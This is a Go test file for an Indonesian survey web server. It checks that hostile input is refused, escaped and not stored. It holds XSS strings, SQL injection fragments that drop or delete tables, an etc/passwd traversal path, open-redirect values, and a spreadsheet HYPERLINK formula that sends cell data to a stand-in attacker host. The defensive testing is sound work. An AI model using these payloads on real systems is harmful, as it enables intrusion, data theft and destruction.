package server

import (
	"fmt"
	"net/url"
	"strings"
	"testing"

	"integritas/survey"
)

// Payloads that hostile input carries.
const (
	xss     = `<script>alert("x")</script>`
	xssAttr = `"><img src=x onerror=alert(1)>`
	sqlFrag = `' OR '1'='1'; DROP TABLE responses; --`
	formula = `=HYPERLINK("http://evil.example/?"&A1,"klik")`
)

// Messages the refusals must carry (from the locale files).
const (
	msgTooLarge    = "Data yang dikirim melebihi batas ukuran."
	msgInvalidJSON = "Isi permintaan harus tepat satu objek JSON"
	msgNotFound    = "Alamat yang Anda buka tidak ada atau tidak dapat Anda akses."
	msgLinkUnknown = "Tautan survei ini tidak dikenal."
	msgProblems    = "isian yang perlu diperbaiki"
	msgInvalidText = "Isian berisi karakter yang tidak valid"
)

// TestHostileRespondentInput: the respondent surface (questionnaire pages
// and the answers API) refuses every hostile request with a 4xx and a
// message, stores nothing, and never echoes a payload unescaped.
func TestHostileRespondentInput(t *testing.T) {
	e := newRespondEnv(t)
	e.unlimited()
	tok := e.invite("DINKES", survey.Internal, 1)[0]
	api := "/api/v1/responses"
	// Answers valid for internal and expert respondents alike.
	both := func(kv ...string) string {
		return form(append([]string{"T01", "4", "SOS01", "3", "SOS02", "5"}, kv...)...)
	}
	openAPI := func(answers string) string {
		return `{"period": "SPI-T", "unit": "DINKES", "answers": ` + answers + `}`
	}
	e.hostile([]hostile{
		// Oversized bodies.
		{name: "oversized form", method: "POST", path: "/r/SPI-T/DINKES", body: longForm(), wantStatus: 413, want: []string{msgTooLarge}},
		{name: "oversized invitation form", method: "POST", path: "/s/" + tok, body: longForm(), wantStatus: 413, want: []string{msgTooLarge}},
		{name: "oversized API body", method: "POST", path: api, body: openAPI(`{"X01": "` + strings.Repeat("a", 80<<10) + `"}`), wantStatus: 413, want: []string{`"code":"too_large"`}},
		{name: "oversized text answer", method: "POST", path: "/r/SPI-T/DINKES", body: valid("X01", strings.Repeat("é", 2100)), wantStatus: 422,
			want: []string{"Teks terlalu panjang"}},

		// Deep and malformed JSON, wrong types.
		{name: "deep JSON", method: "POST", path: api, body: `{"answers": ` + strings.Repeat("[", 20000) + strings.Repeat("]", 20000) + `}`, wantStatus: 400,
			want: []string{msgInvalidJSON}},
		{name: "deep JSON object", method: "POST", path: api, body: strings.Repeat(`{"answers": `, 5000) + `{}` + strings.Repeat("}", 5000), wantStatus: 400,
			want: []string{msgInvalidJSON}},
		{name: "answers of every wrong type", method: "POST", path: api, body: openAPI(`{"T01": 4, "T02": true, "T03": null, "T04": ["4"], "SOS01": {"v": "3"}}`), wantStatus: 400,
			want: []string{`"item":"T01","code":"wrong_type"`, `"item":"T02","code":"wrong_type"`, `"item":"SOS01","code":"wrong_type"`}},
		{name: "token as a number", method: "POST", path: api, body: `{"token": 12345, "answers": {}}`, wantStatus: 400, want: []string{`"code":"wrong_type"`}},
		{name: "duration as a float", method: "POST", path: api, body: `{"period": "SPI-T", "unit": "DINKES", "answers": {}, "duration_seconds": 1.5}`, wantStatus: 400, want: []string{`"code":"wrong_type"`}},
		{name: "huge duration", method: "POST", path: api, body: `{"period": "SPI-T", "unit": "DINKES", "answers": {}, "duration_seconds": 1e400}`, wantStatus: 400},
		{name: "a list, not an object", method: "POST", path: api, body: `[{"period": "SPI-T"}]`, wantStatus: 400, want: []string{msgInvalidJSON}},
		{name: "JSON as a form", method: "POST", path: "/r/SPI-T/DINKES", body: `{"T01": "4"}`, header: map[string]string{"Content-Type": "application/json"}, wantStatus: 400,
			want: []string{"Permintaan tidak valid"}},

		// Unknown items and out-of-range answers.
		{name: "unknown item in the form", method: "POST", path: "/r/SPI-T/DINKES", body: valid("ZZ99", "1"), wantStatus: 422,
			want: []string{msgProblems, "Pertanyaan &#34;ZZ99&#34; tidak ada dalam kuesioner ini."}},
		{name: "unknown items in the API", method: "POST", path: api, body: openAPI(`{"T01": "4", "SOS01": "3", "SOS02": "5", "ZZ99": "1", "golongan": "III"}`), wantStatus: 422,
			want: []string{`"item":"ZZ99","code":"unknown_item"`, `"item":"golongan","code":"not_for_type"`}},
		{name: "out of range 9", method: "POST", path: "/r/SPI-T/DINKES", body: valid("T01", "9"), wantStatus: 422, want: []string{"Jawaban &#34;9&#34; tidak tersedia"}},
		{name: "out of range 0", method: "POST", path: api, body: openAPI(`{"T01": "0", "SOS01": "-1", "SOS02": "4.0", "T02": "1e1", "T03": "٤", "IT04": "maybe"}`), wantStatus: 422,
			want: []string{`"item":"T01","code":"invalid_value"`, `"item":"SOS01","code":"invalid_value"`, `"item":"SOS02","code":"invalid_value"`,
				`"item":"T02","code":"invalid_value"`, `"item":"T03","code":"invalid_value"`, `"item":"IT04","code":"invalid_value"`}},
		{name: "stratum not offered", method: "POST", path: "/s/" + tok, body: valid("golongan", "V"), wantStatus: 422, want: []string{"Pilihan &#34;V&#34; tidak tersedia"}},

		// SQL fragments wherever text reaches a query.
		{name: "SQL in the period of an open link", path: "/r/" + url.PathEscape(sqlFrag) + "/DINKES", wantStatus: 404, want: []string{msgNotFound}},
		{name: "SQL in the unit of an open link", method: "POST", path: "/r/SPI-T/" + url.PathEscape(sqlFrag), body: valid(), wantStatus: 404, want: []string{msgNotFound}},
		{name: "SQL as a token", method: "POST", path: "/s/" + url.PathEscape(sqlFrag), body: valid(), wantStatus: 404, want: []string{msgLinkUnknown}},
		{name: "SQL in the API", method: "POST", path: api, body: `{"period": "` + strings.ReplaceAll(sqlFrag, `'`, `\u0027`) + `", "unit": "DINKES", "answers": {"T01": "4"}}`, wantStatus: 404},
		{name: "SQL as an item code", method: "POST", path: api, body: openAPI(`{"T01'); DELETE FROM responses; --": "4"}`), wantStatus: 422, want: []string{`"code":"unknown_item"`}},
		{name: "SQL as an answer", method: "POST", path: "/r/SPI-T/DINKES", body: valid("T01", sqlFrag), wantStatus: 422,
			want: []string{"Jawaban &#34;&#39; OR &#39;1&#39;=&#39;1&#39;; DROP TABLE responses; --&#34; tidak tersedia"}},

		// Script in a refused answer is shown back escaped.
		{name: "script as an answer", method: "POST", path: "/r/SPI-T/DINKES", body: valid("T01", xss), wantStatus: 422,
			want: []string{"&lt;script&gt;alert(&#34;x&#34;)&lt;/script&gt;"}, notWant: []string{xss}},
		{name: "script in a text beside a problem", method: "POST", path: "/r/SPI-T/DINKES", body: valid("T01", "9", "X01", xssAttr), wantStatus: 422,
			want: []string{"&#34;&gt;&lt;img src=x onerror=alert(1)&gt;"}, notWant: []string{xssAttr}},
		{name: "script as an item code", method: "POST", path: "/r/SPI-T/DINKES", body: valid(xss, "1"), wantStatus: 422, notWant: []string{xss}},
		{name: "script in the API", method: "POST", path: api, body: openAPI(`{"T01": "<script>alert(1)</script>"}`), wantStatus: 422,
			notWant: []string{"<script>alert(1)"}},

		// Invalid UTF-8 and NUL.
		{name: "invalid UTF-8 text answer", method: "POST", path: "/r/SPI-T/DINKES", body: valid("X01", "saran \xff\xfe"), wantStatus: 422,
			want: []string{"Teks berisi karakter yang tidak valid."}},
		{name: "NUL text answer", method: "POST", path: "/s/" + tok, body: valid("X01", "\x00saran"), wantStatus: 422, want: []string{"Teks berisi karakter yang tidak valid."}},
		{name: "NUL text answer in the API", method: "POST", path: api, body: openAPI(`{"T01": "4", "SOS01": "3", "SOS02": "5", "X01": "\u0000x"}`), wantStatus: 422,
			want: []string{`"item":"X01","code":"invalid_text"`}},
		{name: "invalid UTF-8 in the form's keys", method: "POST", path: "/r/SPI-T/DINKES", body: valid("\xff", "1"), wantStatus: 422},
		{name: "invalid UTF-8 JSON", method: "POST", path: api, body: "{\"period\": \"SPI-T\xff\", \"unit\": \"DINKES\", \"answers\": {}}", wantStatus: 404},
		{name: "malformed percent-encoding", method: "POST", path: "/r/SPI-T/DINKES", body: "T01=%zz&SOS01=3", wantStatus: 400, want: []string{"Permintaan tidak valid"}},

		// Path traversal in respondent paths.
		{name: "traversal as a token", path: "/s/..%2f..%2fetc%2fpasswd", wantStatus: 404, want: []string{msgNotFound}},
		{name: "a protocol-relative path", path: "//evil.example/x", wantStatus: 404, want: []string{msgNotFound, `href="/evil.example/x?lang=en"`},
			notWant: []string{`href="//evil.example`}},
		{name: "a backslash path", path: "/%5Cevil.example", wantStatus: 404, notWant: []string{`href="//evil.example`, `href="/\evil.example`, `href="/%5cevil`}},
		{name: "traversal as a unit", path: "/r/SPI-T/..%2f..%2fadmin", wantStatus: 404, want: []string{msgNotFound}},
		{name: "traversal to a QR file", path: "/r/SPI-T/..%2fDINKES/qr.png", wantStatus: 404},

		// Another unit's or period's identifiers.
		{name: "another period's unit", method: "POST", path: "/r/SPI-T/KOTA", body: valid(), wantStatus: 404, want: []string{msgNotFound}},
		{name: "a closed period's link", method: "POST", path: "/s/" + e.closedToken, body: valid(), wantStatus: 409},
		{name: "an invitation claiming another unit", method: "POST", path: "/s/" + tok, body: valid("_period", "SPI-T", "_unit", "DISDIK", "_type", "internal"), wantStatus: 404,
			want: []string{msgLinkUnknown}},
		{name: "an invitation claiming another type", method: "POST", path: "/s/" + tok, body: both("_period", "SPI-T", "_unit", "DINKES", "_type", "expert"), wantStatus: 404,
			want: []string{msgLinkUnknown}},
		{name: "an invitation claiming another period", method: "POST", path: "/s/" + tok, body: both("_period", "SPI-X", "_unit", "KOTA", "_type", "internal"), wantStatus: 404},
		{name: "open link as staff", method: "POST", path: api, body: `{"period": "SPI-T", "unit": "DINKES", "type": "internal", "answers": {}}`, wantStatus: 400,
			want: []string{`"code":"type_not_open"`}},
	})
	// The invitation the forged claims tried to spend still works.
	if resp := e.raw("POST", "/s/"+tok, valid(), nil); resp.StatusCode != 303 {
		t.Fatalf("the genuine submission after forged claims: %d", resp.StatusCode)
	}
	if n := e.count(`SELECT count(*) FROM responses`); n != 1 {
		t.Fatalf("%d responses stored, want the 1 genuine one", n)
	}
}

// TestHostileStaffInput: the staff forms refuse hostile input with a 4xx
// and the form or a message, and change nothing.
func TestHostileStaffInput(t *testing.T) {
	e := newRespondEnv(t)
	admin := e.loginAs("admin")
	insp := e.loginAs("inspector")
	big := strings.Repeat("x", 2<<20)
	unitsCSV := "code,name,parent_code,head_email,internal_population,external_population,expert_population\n"
	e.hostile([]hostile{
		{name: "oversized unit edit", method: "POST", path: "/admin/periods/SPI-T/units/DINKES", body: form("name", big), header: admin, wantStatus: 413, want: []string{msgTooLarge}},
		{name: "oversized login", method: "POST", path: "/login", body: form("email", big, "password", "x"), wantStatus: 413, want: []string{msgTooLarge}},
		{name: "too long unit name", method: "POST", path: "/admin/periods/SPI-T/units/DINKES", body: form("name", strings.Repeat("n", 201)), header: admin, wantStatus: 400,
			want: []string{"Nama unit wajib diisi, paling panjang 200 karakter."}},
		{name: "script with a bad e-mail is shown back escaped", method: "POST", path: "/admin/periods/SPI-T/units/DINKES",
			body: form("name", xss, "head_email", xssAttr), header: admin, wantStatus: 400,
			want: []string{"E-mail pimpinan tidak valid.", "&lt;script&gt;alert(&#34;x&#34;)&lt;/script&gt;"}, notWant: []string{xss, xssAttr}},
		{name: "negative population", method: "POST", path: "/admin/periods/SPI-T/units/DINKES", body: form("name", "Dinkes", "internal_population", "-1"), header: admin, wantStatus: 400},
		{name: "population as SQL", method: "POST", path: "/admin/periods/SPI-T/units/DINKES", body: form("name", "Dinkes", "internal_population", "1; DROP TABLE units"), header: admin, wantStatus: 400},
		{name: "NUL in a unit name", method: "POST", path: "/admin/periods/SPI-T/units/DINKES", body: form("name", "\x00Dinkes"), header: admin, wantStatus: 400, want: []string{msgInvalidText}},
		{name: "invalid UTF-8 in a unit name", method: "POST", path: "/admin/periods/SPI-T/units/DINKES", body: form("name", "Dinkes \xff"), header: admin, wantStatus: 400, want: []string{msgInvalidText}},
		{name: "invalid UTF-8 in a user name", method: "POST", path: "/admin/users", body: form("email", "u1@example.go.id", "name", "\xc3\x28", "role", "analyst", "password", testPassword), header: admin,
			wantStatus: 400, want: []string{msgInvalidText}},
		{name: "script as a login e-mail is shown back escaped", method: "POST", path: "/login", body: form("email", xssAttr, "password", "salah-sekali"), wantStatus: 401,
			want: []string{"Alamat e-mail atau kata sandi salah.", "&#34;&gt;&lt;img src=x onerror=alert(1)&gt;"}, notWant: []string{xssAttr}},
		{name: "SQL as a login e-mail", method: "POST", path: "/login", body: form("email", "admin@example.go.id' --", "password", "x"), wantStatus: 401},
		{name: "NUL in a login e-mail", method: "POST", path: "/login", body: form("email", "admin@example.go.id\x00", "password", testPassword), wantStatus: 400, want: []string{msgInvalidText}},
		{name: "open redirect after login", method: "POST", path: "/login", body: form("email", "nobody@example.go.id", "password", "x", "next", "//evil.example/"), wantStatus: 401,
			notWant: []string{`value="//evil.example/"`}},
		periodCase(t, "script as a period code", insp, map[string]string{"code": xss, "name": "x"}, 400, "Kode periode terdiri atas"),
		periodCase(t, "period code with traversal", insp, map[string]string{"code": "../../etc", "name": "x"}, 400, "Kode periode terdiri atas"),
		periodCase(t, "period dates as SQL", insp, map[string]string{"code": "P9", "name": "x", "opens": "2026-01-01' OR 1=1"}, 400, ""),
		periodCase(t, "NUL in a period name", insp, map[string]string{"code": "P9", "name": "\x00SPI"}, 400, msgInvalidText),
		{name: "correction points NaN", method: "POST", path: "/inspectorate/SPI-T/corrections", body: form("unit", "DINKES", "kind", "other", "points", "NaN", "reason", "x"), header: insp,
			wantStatus: 400, want: []string{"Poin harus berupa angka dari 0 sampai 100."}},
		{name: "correction for another period's unit", method: "POST", path: "/inspectorate/SPI-T/corrections", body: form("unit", "KOTA", "kind", "other", "points", "1", "reason", "x"), header: insp,
			wantStatus: 400, want: []string{"Unit kerja tidak ada dalam periode ini."}},
		{name: "correction kind as script", method: "POST", path: "/inspectorate/SPI-T/corrections", body: form("unit", "DINKES", "kind", xss, "points", "1", "reason", "x"), header: insp,
			wantStatus: 400, notWant: []string{xss}},
		{name: "NUL in a correction reason", method: "POST", path: "/inspectorate/SPI-T/corrections", body: form("unit", "DINKES", "kind", "other", "points", "1", "reason", "\x00x"), header: insp,
			wantStatus: 400, want: []string{msgInvalidText}},

		// Uploads: traversal in file names, hostile content, oversize.
		uploadCase(t, "units file named with traversal and bad rows", "/admin/periods/SPI-T/units", insp, "file:../../../../tmp/evil.csv",
			unitsCSV+"<b>X</b>,"+xss+",,,1,,\n", 400, []string{"evil.csv:2"}),
		uploadCase(t, "units file with a formula code", "/admin/periods/SPI-T/units", insp, "file:units.csv",
			unitsCSV+"=1+1,Formula,,,1,,\n", 400, []string{"units.csv:2"}),
		uploadCase(t, "units file in UTF-16", "/admin/periods/SPI-T/units", insp, "file:units.csv",
			utf16(unitsCSV+"DINKES,Dinas,,,1,,\n"), 400, nil),
		uploadCase(t, "oversized upload", "/admin/periods/SPI-T/units", insp, "file:units.csv", unitsCSV+strings.Repeat("A,B,,,1,,\n", 150000), 413, []string{msgTooLarge}),
		uploadCase(t, "roster with script and traversal", "/inspectorate/SPI-T/roster", insp, "file:..\\..\\roster.csv",
			"unit,type,name,email\nDINKES,internal,Budi,"+xssAttr+"\n", 400, []string{"roster.csv:2"}),
	})
}

// periodCase is a hostile period creation (a multipart form, as the page
// sends it with its optional instrument and settings files).
func periodCase(t *testing.T, name string, who map[string]string, fields map[string]string, status int, want string) hostile {
	body, h := upload(t, fields, nil, who)
	hc := hostile{name: name, method: "POST", path: "/admin/periods", body: body, header: h, wantStatus: status, notWant: []string{xss}}
	if want != "" {
		hc.want = []string{want}
	}
	return hc
}

// uploadCase is a hostile upload as a multipart form.
func uploadCase(t *testing.T, name, path string, who map[string]string, file, content string, status int, want []string) hostile {
	body, h := upload(t, nil, map[string]string{file: content}, who)
	return hostile{name: name, method: "POST", path: path, body: body, header: h, wantStatus: status, want: want, notWant: []string{xss, "<b>X</b>"}}
}

// utf16 encodes ASCII text as UTF-16LE with a byte order mark, as Excel's
// "Unicode Text" does.
func utf16(s string) string {
	var b strings.Builder
	b.WriteString("\xff\xfe")
	for _, r := range s {
		fmt.Fprintf(&b, "%c\x00", r)
	}
	return b.String()
}
